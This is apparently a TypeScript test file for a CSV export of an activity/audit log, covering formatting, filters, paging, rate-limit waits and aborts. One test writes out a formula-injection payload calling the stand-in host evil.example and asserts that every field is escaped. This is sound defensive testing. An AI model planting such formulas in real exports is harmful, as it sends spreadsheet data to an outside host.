import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import type { AuditQuery, AuditRecord } from '../../../components/client/audit.js';
import { WachtApiError } from '../../../components/client/errors.js';
import { activityExport, activityExportHead } from '../../../components/operations/activity-export.js';
import { noActivityFilters, type ActivityFilters } from '../../../components/operations/activity-feed.js';

const record = (id: number, change: Partial<AuditRecord> = {}): AuditRecord => ({
  id,
  at: `2026-05-12T00:00:${String(id % 60).padStart(2, '0')}.000Z`,
  action: 'secret.rotate',
  outcome: 'succeeded',
  source: 'client-reported',
  principal: 'u-1',
  address: null,
  target: null,
  reason: null,
  before: null,
  after: null,
  intent: null,
  ...change,
});

/** A log, newest first, that is read `limit` records at a time. */
function logOf(
  records: readonly AuditRecord[],
  refuse: (request: number) => WachtApiError | undefined = () => undefined,
) {
  const asked: AuditQuery[] = [];
  const waits: number[] = [];
  const stopping = new AbortController();
  const run = async (filters: Partial<ActivityFilters> = {}, keep = (_: AuditRecord) => true) => {
    let text = activityExportHead;
    let rows = 0;
    const parts = activityExport({
      read: (query) => {
        asked.push(query);
        const error = refuse(asked.length);
        if (error) return Promise.reject(error);
        const start = Number(query.cursor ?? 0);
        const end = start + (query.limit ?? 50);
        const has_more = end < records.length;
        const data = records.slice(start, end);
        return Promise.resolve({ data, has_more, ...(has_more ? { next_cursor: String(end) } : {}) });
      },
      filters: { ...noActivityFilters, ...filters },
      signal: stopping.signal,
      wait: async (ms, signal) => {
        waits.push(ms);
        await Promise.resolve();
        signal.throwIfAborted();
      },
      keep,
      nameOf: (principal) => (principal === 'u-1' ? 'Ines Albrecht' : principal),
    });
    for await (const part of parts) {
      text += part.text;
      rows += part.rows;
    }
    return { text, rows, lines: text.trimEnd().split('\r\n').slice(1) };
  };
  return { run, asked, waits, stopping };
}

describe('the exported activity log', () => {
  it('has a line for each record, as it stands in the log, with the person’s name beside the id', async () => {
    const { run } = logOf([
      record(2, { intent: 1, target: '7301', after: { is_active: true } }),
      record(1, { outcome: 'intended', reason: 'Left, at last' }),
    ]);
    const { text, lines } = await run();
    assert.ok(text.startsWith('\ufeffid,at,action,outcome,source,principal,person,address,target,reason,'));
    assert.deepEqual(lines, [
      '2,2026-05-12T00:00:02.000Z,secret.rotate,succeeded,client-reported,u-1,Ines Albrecht,,7301,,,"{""is_active"":true}",1',
      '1,2026-05-12T00:00:01.000Z,secret.rotate,intended,client-reported,u-1,Ines Albrecht,,,"Left, at last",,,',
    ]);
  });

  it('runs no formula that somebody wrote into it, in whatever field', async () => {
    const evil = '=HYPERLINK("https://evil.example/?"&A1)\r\n+1';
    const texts = {
      principal: evil,
      address: evil,
      target: evil,
      reason: evil,
      before: evil,
      after: { [evil]: evil },
    };
    const { text } = await logOf([record(1, { ...texts, action: evil, outcome: evil, source: evil })]).run();
    const line = text.slice(activityExportHead.length);
    const cells = [...line.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(?:,|\r\n)/g)].map(
      ([, quoted, plain]) => quoted ?? plain ?? '',
    );
    assert.equal(cells.length, 13);
    for (const cell of cells) assert.doesNotMatch(cell, /^[=+\-@\t\r\n]/);
    assert.equal(cells.filter((cell) => cell.startsWith(`'=HYPERLINK`)).length, 8);
  });

  it('leaves out what the filters, the search and the window do', async () => {
    const records = [
      record(4, { at: '2026-05-13T00:00:00Z' }),
      record(3, { intent: 1 }),
      record(2, { outcome: 'intended' }),
      record(1, { outcome: 'intended' }),
    ];
    const ids = async (filters: Partial<ActivityFilters>, keep?: (one: AuditRecord) => boolean) =>
      (await logOf(records).run(filters, keep)).lines.map((line) => Number(line.split(',')[0]));
    assert.deepEqual(await ids({ outcome: 'open' }), [2], 'nobody said how it ended');
    assert.deepEqual(
      await ids({ window: { from: 0, until: Date.parse('2026-05-12T12:00:00Z') } }),
      [3, 2, 1],
    );
    assert.deepEqual(await ids({}, ({ id }) => id < 3), [2, 1]);
    const { run, asked } = logOf(records);
    await run({ action: 'secret.rotate', person: 'u-1', outcome: 'failed' });
    assert.equal(asked[0]?.action, 'secret.rotate');
    assert.equal(asked[0].principal, 'u-1');
    assert.equal(asked[0].outcome, 'failed');
  });

  it('is not ended by somebody else’s word', async () => {
    const { lines } = await logOf([
      record(2, { intent: 1, principal: 'mallory' }),
      record(1, { outcome: 'intended' }),
    ]).run({ outcome: 'open' });
    assert.equal(lines.length, 1);
  });

  it('of a long log is read at a pace that leaves requests to the person', async () => {
    const { run, asked, waits } = logOf(Array.from({ length: 2500 }, (_, index) => record(2500 - index)));
    const { rows, lines } = await run();
    assert.deepEqual([rows, lines.length, new Set(lines).size], [2500, 2500, 2500]);
    assert.equal(asked.length, 13);
    assert.deepEqual(waits, [1500, 1500, 1500]);
  });

  it('waits as long as the server asks, and goes on where it was', async () => {
    const busy = new WachtApiError('rate-limited', 'Wait', { retryAfter: 30_000 });
    const { run, waits } = logOf(
      Array.from({ length: 300 }, (_, index) => record(300 - index)),
      (request) => (request === 2 ? busy : undefined),
    );
    assert.equal((await run()).rows, 300);
    assert.deepEqual(waits, [30_000]);
  });

  it('ends where it is refused, and when it is stopped while it waits', async () => {
    const gone = new WachtApiError('forbidden', 'No');
    await assert.rejects(logOf([record(1)], () => gone).run(), { kind: 'forbidden' });
    const never = new WachtApiError('rate-limited', 'Wait', { retryAfter: 600_000 });
    await assert.rejects(logOf([record(1)], () => never).run(), { kind: 'rate-limited' });
    const busy = new WachtApiError('rate-limited', 'Wait', { retryAfter: 1000 });
    const stopped = logOf([record(1)], () => busy);
    const running = stopped.run();
    stopped.stopping.abort(new WachtApiError('aborted', 'stopped'));
    await assert.rejects(running, { kind: 'aborted' });
  });
});
